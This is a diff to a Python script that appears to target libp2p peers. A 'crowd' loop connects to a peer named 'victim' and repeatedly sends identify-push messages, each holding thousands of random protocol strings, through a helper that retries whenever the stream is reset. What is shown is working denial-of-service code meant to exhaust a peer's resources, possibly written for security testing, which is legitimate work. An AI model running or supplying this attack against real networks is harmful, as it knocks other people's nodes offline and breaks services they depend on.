@@ -61,18 +61,21 @@ async def crowd(address: str, kind: str, source: str) -> None:
                     await host.connect(victim)
                 while host.get_network().get_connections(victim.peer_id):
                     if kind == "push":
-                        stream = await host.get_network().new_stream(victim.peer_id)
-                        await stream.write(PUSH + encode_varint_prefixed(identity()))
-                        await stream.close()
+                        await push(await host.get_network().new_stream(victim.peer_id))
                     else:
                         await trio.sleep(0.1)
         except (Exception, BaseExceptionGroup):  # whatever the library makes of being hung up on
             await trio.sleep(0.2)
 
 
-def identity() -> bytes:
-    """A large one, unlike any other."""
-    return Identify(protocols=[os.urandom(50).hex() for _ in range(9000)]).SerializeToString()
+async def push(stream: Any) -> None:
+    """A large identity, unlike any other."""
+    identity = Identify(protocols=[os.urandom(50).hex() for _ in range(9000)]).SerializeToString()
+    try:
+        await stream.write(PUSH + encode_varint_prefixed(identity))
+        await stream.close()
+    except Exception:  # it was reset
+        await trio.sleep(0.01)
 
 
 async def main(address: str, kind: str, keys: int, sources: int) -> None:
